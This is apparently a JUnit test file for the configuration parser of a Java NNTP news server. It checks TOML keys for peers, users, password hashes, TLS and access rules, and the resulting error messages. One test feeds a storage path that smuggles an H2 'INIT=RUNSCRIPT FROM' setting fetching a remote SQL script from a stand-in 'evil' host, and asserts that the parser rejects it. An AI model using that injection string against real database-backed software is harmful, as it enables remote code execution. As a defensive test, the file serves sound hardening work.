package org.newsnode.storage.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import org.junit.jupiter.api.Test;

class NodeConfigTest {
    @Test
    void readsEveryKey() throws Exception {
        NodeConfig c = NodeConfig.parse("""
                path-identity = "news.example.org"
                [server]
                listen = ["127.0.0.1:1119", "[::1]:1119"]
                posting = false
                motd = "hi"
                distrib-pats = ["10:local.*:local"]
                [articles]
                max-size = 5000
                cutoff-days = 3
                [storage]
                cache-mb = 128
                fsync = true
                """, "t.toml");
        assertEquals("news.example.org", c.pathIdentity());
        assertEquals(2, c.listen().size());
        assertEquals("::1", c.listen().get(1).getHostString());
        assertEquals(false, c.postingAllowed());
        assertEquals(List.of("10:local.*:local"), c.distribPats());
        assertEquals(5000, c.maxArticleSize());
        assertEquals(3, c.cutoff().toDays());
        assertEquals(128, c.cacheMb());
        assertEquals(true, c.fsync());
    }

    @Test
    void peers() throws Exception {
        NodeConfig c = NodeConfig.parse("""
                path-identity = "a.example"
                path-aliases = ["old-a.example"]
                [[peer]]
                name = "b"
                host = "127.0.0.2"
                path-identity = "b.example"
                aliases = ["b2.example"]
                [[peer]]
                name = "c"
                host = "127.0.0.3"
                path-identity = "c.example"
                """, "t.toml");
        assertEquals(List.of("a.example", "old-a.example"), c.ownIdentities());
        assertEquals(2, c.peers().size());
        assertEquals(List.of("b.example", "b2.example"), c.peers().get(0).identities());
        assertEquals("127.0.0.3", c.peers().get(1).host());
        assertEquals("t.toml line 5: peer[1].hots: unknown key (known keys: accept-groups, aliases, compress, connections, distributions, groups, host, login-password, login-user, max-size, name, path-identity, port, response-timeout-seconds, source-address, streaming, tls, tls-fingerprint, user, window)",
                error("path-identity = \"a\"\n[[peer]]\nname = \"b\"\npath-identity = \"b\"\nhots = \"x\"\n"));
        assertEquals("t.toml line 2: peer[1].host: missing (the address the peer connects from and is fed at)",
                error("path-identity = \"a\"\n[[peer]]\nname = \"b\"\npath-identity = \"b\"\n"));
        assertEquals("t.toml line 7: peer[2].name: a peer named \"b\" is already defined",
                error("path-identity = \"a\"\n[[peer]]\nname = \"b\"\nhost = \"h\"\npath-identity = \"b\"\n[[peer]]\n"
                        + "name = \"b\"\nhost = \"h\"\npath-identity = \"b\"\n"));
    }

    @Test
    void defaults() throws Exception {
        NodeConfig c = NodeConfig.parse("path-identity = \"x\"\n", "t.toml");
        assertEquals(1, c.listen().size());
        assertEquals(1119, c.listen().get(0).getPort());
        assertEquals(NodeConfig.DEFAULT_MAX_ARTICLE_SIZE, c.maxArticleSize());
    }

    @Test
    void errorsNameTheKeyAndLine() {
        String unknown = error("path-identity = \"x\"\n[server]\nlistn = \"a:1\"\n");
        assertTrue(unknown.startsWith("t.toml line 3: server.listn: unknown key (known keys: articles.cutoff-days, "), unknown);
        assertTrue(unknown.contains(" server.listen, ") && unknown.endsWith(", [[peer]], [[user]], [[access]])"), unknown);
        assertEquals("t.toml line 2: expiry.groups: \"local.*\" is not wildmat:days",
                error("path-identity = \"x\"\nexpiry.groups = [\"local.*\"]\n"));
        assertEquals("t.toml line 2: expiry.remember-days: 5 must exceed articles.cutoff-days 10 (a forgotten ID still "
                + "inside the cutoff could be taken twice)", error("path-identity = \"x\"\nexpiry.remember-days = 5\n"));
        assertEquals("t.toml line 3: server.listen: \"nowhere\" is not HOST:PORT",
                error("path-identity = \"x\"\n[server]\nlisten = \"nowhere\"\n"));
        assertEquals("t.toml line 2: articles.max-size: expected a whole number",
                error("path-identity = \"x\"\narticles.max-size = \"big\"\n"));
        assertEquals("t.toml line 2: storage.cache-mb: 1 is out of range 4..1048576",
                error("path-identity = \"x\"\nstorage.cache-mb = 1\n"));
        assertEquals("t.toml: path-identity: missing (the name this node puts in Path)", error("[server]\n"));
        assertEquals("t.toml line 1: path-identity: \"a b\" is not a valid path identity (RFC 5537 §3.2: letters, digits, '.', '-', '_')",
                error("path-identity = \"a b\"\n"));
        assertEquals("t.toml line 1: server.posting: expected true or false",
                error("server.posting = 1\npath-identity = \"x\"\n"));
        assertEquals("t.toml line 2: storage.path: must not contain ';'",
                error("path-identity = \"x\"\nstorage.path = \"data;INIT=RUNSCRIPT FROM 'http://evil/x.sql'\"\n"),
                "H2 would read what follows ';' in its URL as settings");
        assertTrue(error("path-identity = \"x\"\nbad = [\n").matches("t.toml line [23]: Unexpected end of input.*"),
                "a TOML syntax error names its line");
    }

    @Test
    void usersAndPeerCredentials() throws Exception {
        String hash = PasswordHash.create("s3cret pass".toCharArray(), 2_000);
        NodeConfig c = NodeConfig.parse("""
                path-identity = "x"
                [[user]]
                name = "feed-b"
                password = "%s"
                [[peer]]
                name = "b"
                host = "192.0.2.7"
                path-identity = "b.example"
                user = "feed-b"
                login-user = "x-at-b"
                login-password = "pw for b"
                """.formatted(hash), "t.toml");
        assertEquals(1, c.users().size());
        assertTrue(c.users().get(0).verify("s3cret pass"));
        assertTrue(!c.users().get(0).verify("s3cret pas"));
        assertEquals("feed-b", c.peers().get(0).user());
        assertEquals(new PeerConfig.Login("x-at-b", "pw for b"), c.peers().get(0).login());
        assertTrue(!c.peers().get(0).login().toString().contains("pw for b"), "the password stays out of logs");

        String user = "path-identity = \"x\"\n[[user]]\nname = \"u\"\npassword = \"" + hash + "\"\n";
        String peer = "[[peer]]\nname = \"b\"\nhost = \"h\"\npath-identity = \"b\"\n";
        assertEquals("t.toml line 4: user[1].password: not a pbkdf2-sha256 hash (make one with `newsnode user add`)",
                error("path-identity = \"x\"\n[[user]]\nname = \"u\"\npassword = \"plain\"\n"));
        assertEquals("t.toml line 6: peer[1].user: no [[user]] named \"v\" (add one with `newsnode user add v`)",
                error("path-identity = \"x\"\n" + peer + "user = \"v\"\n"));
        assertEquals("t.toml line 14: peer[2].user: user \"u\" already identifies peer \"b\"",
                error(user + peer + "user = \"u\"\n" + peer.replace("\"b\"\nhost", "\"c\"\nhost") + "user = \"u\"\n"));
        assertEquals("t.toml line 5: peer[1].login-password: login-user and login-password go together (the credentials "
                + "this node gives the peer)", error(user + peer + "login-user = \"me\"\n"));
        assertEquals("t.toml line 6: user[2].name: a user named \"u\" is already defined",
                error(user + "[[user]]\nname = \"u\"\npassword = \"" + hash + "\"\n"));
    }

    @Test
    void passwordHashes() {
        String h = PasswordHash.create("pässword".toCharArray(), 2_000);
        assertTrue(h.startsWith("pbkdf2-sha256$2000$"), h);
        assertTrue(PasswordHash.verify("pässword", h));
        assertTrue(!PasswordHash.verify("password", h));
        assertTrue(!h.equals(PasswordHash.create("pässword".toCharArray(), 2_000)), "a fresh salt each time");
        assertTrue(!PasswordHash.isWellFormed("pbkdf2-sha256$10$AAAAAAAAAAA$AAAA"), "too few iterations, short hash");
        assertTrue(!PasswordHash.isWellFormed("md5$x"));
    }

    @Test
    void tlsKeys() throws Exception {
        NodeConfig c = NodeConfig.parse("path-identity = \"a.example\"\n[tls]\ncertificate = \"tls/node.p12\"\npassword = \"pw\"\n"
                + "listen = [\"0.0.0.0:563\"]\n[[peer]]\nname = \"b\"\nhost = \"b.example\"\npath-identity = \"b.example\"\n"
                + "tls = \"implicit\"\ntls-fingerprint = \"sha256:" + "0a:".repeat(31) + "0a\"\ncompress = true\n", "t.toml");
        assertTrue(c.tls().enabled() && c.tls().requireForAuth());
        assertEquals(563, c.tls().listen().get(0).getPort());
        PeerConfig b = c.peers().get(0);
        assertEquals(PeerConfig.Tls.IMPLICIT, b.tls());
        assertEquals(563, b.port(), "implicit TLS defaults to the nntps port");
        assertTrue(b.compress());
        assertEquals(PeerConfig.Tls.AUTO, NodeConfig.parse("path-identity = \"a\"\n[[peer]]\nname = \"b\"\nhost = \"h\"\npath-identity = \"b\"\n",
                "t.toml").peers().get(0).tls(), "TLS whenever the peer offers it, by default");
        assertEquals("t.toml line 3: tls.listen: implicit TLS needs tls.certificate (make one with `newsnode tls self-signed`)",
                error("path-identity = \"a\"\n[tls]\nlisten = [\"127.0.0.1:563\"]\n"));
        assertEquals("t.toml line 5: peer[1].tls: \"yes\" is not one of auto, starttls, implicit, off",
                error("path-identity = \"a\"\n[[peer]]\nname = \"b\"\nhost = \"h\"\ntls = \"yes\"\npath-identity = \"b\"\n"));
        assertEquals("t.toml line 5: peer[1].tls-fingerprint: \"ab:cd\" is not a SHA-256 fingerprint (sha256: and 64 hex digits)",
                error("path-identity = \"a\"\n[[peer]]\nname = \"b\"\nhost = \"h\"\ntls-fingerprint = \"ab:cd\"\npath-identity = \"b\"\n"));
        assertEquals("t.toml line 3: tls.require-for-auth: expected true or false",
                error("path-identity = \"a\"\n[tls]\nrequire-for-auth = \"no\"\n"));
    }

    @Test
    void accessKeys() throws Exception {
        NodeConfig c = NodeConfig.parse("path-identity = \"a\"\n[[access]]\nname = \"lan\"\naddresses = [\"10.0.0.0/8\", \"2001:db8::/32\"]\n"
                + "read = \"*,!secret.*\"\npost = \"\"\n", "t.toml");
        AccessRule lan = c.access().get(0);
        assertTrue(lan.covers(java.net.InetAddress.getByName("10.20.30.40")));
        assertTrue(lan.covers(java.net.InetAddress.getByName("2001:db8::1")));
        assertTrue(!lan.covers(java.net.InetAddress.getByName("11.0.0.1")));
        assertTrue(lan.post() == null && lan.users() == null && !lan.feed());
        assertEquals("t.toml line 4: access[1].addresses: \"10.0.0.0/33\": prefix length must be 0..32",
                error("path-identity = \"a\"\n[[access]]\nname = \"x\"\naddresses = [\"10.0.0.0/33\"]\n"));
        assertEquals("t.toml line 4: access[1].addresses: \"news.example.org\" is not an IP address or CIDR range (names are not looked up)",
                error("path-identity = \"a\"\n[[access]]\nname = \"x\"\naddresses = \"news.example.org\"\n"));
        assertEquals("t.toml line 4: access[1].users: no [[user]] named \"bob\"",
                error("path-identity = \"a\"\n[[access]]\nname = \"x\"\nusers = [\"bob\"]\n"));
        assertEquals("t.toml line 4: access[1].read: \"[a\" is not a valid wildmat (RFC 3977 §4): unclosed \"[\" in wildmat \"[a\"",
                error("path-identity = \"a\"\n[[access]]\nname = \"x\"\nread = \"[a\"\n"));
    }

    private static String error(String toml) {
        return assertThrows(ConfigException.class, () -> NodeConfig.parse(toml, "t.toml")).getMessage();
    }
}
